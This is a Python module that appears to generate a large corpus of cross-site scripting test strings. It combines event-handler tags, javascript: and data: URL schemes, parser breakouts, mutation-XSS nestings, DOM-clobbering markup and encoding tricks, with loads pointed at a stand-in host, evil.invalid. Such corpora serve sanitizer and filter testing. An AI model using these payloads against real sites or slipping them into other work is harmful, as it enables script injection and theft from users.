"""Markup that wants to run: generated from how browsers read HTML, addresses and styles, not collected.

Each is text in which `N` stands for its number; what runs calls `alert(N)`, what loads asks for `//evil.invalid/N`.
"""

import itertools
import random

CODE = "alert(N)"
TAGS = ["img", "svg", "body", "input", "details", "video", "audio", "marquee", "iframe", "object", "math", "a", "p",
        "select", "textarea", "button", "form", "isindex", "keygen", "x", "table", "style", "link", "frameset", "bgsound"]
EVENTS = ["onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onstart", "onbegin", "onanimationstart",
          "onpageshow", "onbeforetoggle", "onscrollend", "onpointerenter", "oncontentvisibilityautostatechange"]
HELPERS = "src=x autofocus open tabindex=1 contenteditable begin=0s"
GAPS = [" ", "/", "\n", "\t", "\r\n", "\f", " / ", "/**/ "]
QUOTES = [("\"", "\""), ("'", "'"), ("", ""), ("`", "`")]
BREAKS = ["", "\"", "'", "\">", "'>", "`>", "-->", "]]>", "</title>", "</textarea>", "</style>", "</script>", "</noscript>",
          "</xmp>", "</template>", "</svg>", "*/", "?>", "%>", "</h1></a>", "\\\">", "&quot;>", "\u201d>", "<!--", "<![CDATA["]
SCHEMES = ["javascript:{}", "JaVaScRiPt:{}", "java\tscript:{}", "java\nscript:{}", " javascript:{}", "\u00a0javascript:{}",
           "javascript&colon;{}", "javascript&#58;{}", "&#106;avascript:{}", "&#x6A&#x61vascript:{}", "java&Tab;script:{}",
           "javascript:%61lert(N)", "javascript://x/%0a{}", "vbscript:{}", "data:text/html,<script>{}</script>",
           "data:image/svg+xml,<svg onload={}>", "blob:{}", "feed:javascript:{}", "view-source:javascript:{}", "jar:{}",
           "filesystem:{}", "about:blank#{}", "\\\\evil.invalid\\N", "//evil.invalid/N", "http:javascript:{}",
           "https://user:{}@evil.invalid/N", "mailto:x?body=%0d%0aBcc:N@evil.invalid", "file:///etc/passwd#N",
           "\u0001javascript:{}", "javascript\u200b:{}", "ｊavascript:{}", "tel:{}"]
LINKS = ['<a href="{}">', "<a href='{}'>", "<a href={}>", '<img src="{}">', '<form action="{}"><button>', '<iframe src="{}">',
         '<button formaction="{}">', '<area href="{}">', '<base href="{}">', '<object data="{}">', '<embed src="{}">',
         '<svg><a xlink:href="{}"><text>', '<math href="{}">', '<video poster="{}">', '<link rel=stylesheet href="{}">',
         '<meta http-equiv=refresh content="0;url={}">', '<img srcset="{} 1x">', '<body background="{}">',
         '<svg><use href="{}">', '<svg><animate attributeName=href values="{}">', '<blockquote cite="{}">']
SCRIPTS = ["<script>{}</script>", "<ScRiPt>{}</sCrIpT>", "<script/x>{}</script >", "<scr<script>ipt>{}</scr</script>ipt>",
           "<script src=//evil.invalid/N></script>", "<script type=module>{}</script>", "<script\n>{}</script\n>", "<<script>{}//<",
           "<script>{}", "<svg><script>{}</script></svg>", "<math><script>{}</script></math>", "<svg><script href=data:,{} />",
           "<noscript><p title=\"</noscript><img src=x onerror={}>\">", "<template><script>{}</script></template>",
           "<style><img src=\"</style><img src=x onerror={}//\">", "<xmp><p title=\"</xmp><svg onload={}>\">",
           "<title><a title=\"</title><img src=x onerror={}>\">", "<iframe srcdoc=\"<script>parent.{}</script>\">",
           "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={}&gt;\">",
           "<form><math><mtext></form><form><mglyph><style></math><img src onerror={}>",
           "<svg></p><style><a id=\"</style><img src=1 onerror={}>\">", "<select><style></select><svg onload={}></style>",
           "<table><td><svg><desc><td><svg onload={}>", "<p><svg><foreignObject><img src=x onerror={}>",
           "<?xml-stylesheet href=\"javascript:{}\"?>", "<!--><img src=x onerror={}>-->", "<![CDATA[><img src=x onerror={}>]]>",
           "<plaintext><img src=x onerror={}>", "<a name=gleaner><form id=said><input name=textContent>", "<img name=getElementById id=card>",
           "<div style=\"background:url(//evil.invalid/N);position:fixed;inset:0\">", "<p style=\"width:expression({})\">",
           "<style>@import '//evil.invalid/N'; body{display:none}</style>", "<input type=hidden accesskey=x onclick={}>",
           "<div class=card id=card data-key=k data-part=card>", "<button name=answer value=keep data-key=k form=x>N</button>",
           "<dialog open id=keys><a href=//evil.invalid/N data-go=r>N</a></dialog>", "<meta charset=utf-7>+ADw-script+AD4-{}",
           "<portal src=//evil.invalid/N>", "<fencedframe src=//evil.invalid/N>", "<div popover id=x onbeforetoggle={}>"]
ENTITIES = [lambda t: t, lambda t: t.replace("<", "&lt;").replace(">", "&gt;"),
            lambda t: t.replace("<", "&amp;lt;"), lambda t: t.replace("<", "&#60"), lambda t: t.replace("<", "&#x3c;"),
            lambda t: t.replace("<", "\uff1c").replace(">", "\uff1e"), lambda t: t.replace("<", "\u2039"),
            lambda t: "".join(f"&#{ord(c)};" for c in t), lambda t: "\u202e" + t, lambda t: t.replace(" ", "\u2028")]


def events():
    for tag, event, gap, (open_, close) in itertools.product(TAGS, EVENTS, GAPS, QUOTES):
        yield f"<{tag}{gap}{HELPERS}{gap}{event}={open_}{CODE}{close}>"


def links():
    for link, scheme in itertools.product(LINKS, SCHEMES):
        yield link.format(scheme.format(CODE)) + "N</a>"


def scripts():
    for broken, script in itertools.product(BREAKS, SCRIPTS):
        yield broken + script.replace("{}", CODE)


def encoded():
    simple = ["<script>alert(N)</script>", "<img src=x onerror=alert(N)>", "<svg/onload=alert(N)>"]
    for broken, text, encode in itertools.product(BREAKS, simple, ENTITIES):
        yield broken + encode(text)


def markup(count, seed=1):
    """So many different pieces of markup, an equal share of each kind."""
    dice = random.Random(seed)
    kinds = [sorted(set(kind())) for kind in (events, links, scripts, encoded)]
    for kind in kinds:
        dice.shuffle(kind)
    turns = itertools.chain.from_iterable(zip(*(itertools.islice(itertools.cycle(kind), count) for kind in kinds)))
    chosen = list(dict.fromkeys(turns))[:count]
    return [text.replace("(N)", f"({number})").replace("/N", f"/{number}").replace(">N<", f">{number}<")
            for number, text in enumerate(chosen)]


def addresses(count):
    """So many addresses that want to run or to lead astray."""
    made = [scheme.format(f"alert({number})").replace("N", str(number))
            for number, scheme in zip(range(count), itertools.cycle(SCHEMES))]
    return [f'{address}"{broken}<x onfocus=alert({number})>' if number % 3 == 0 else address
            for number, (address, broken) in enumerate(zip(made, itertools.cycle(BREAKS)))]
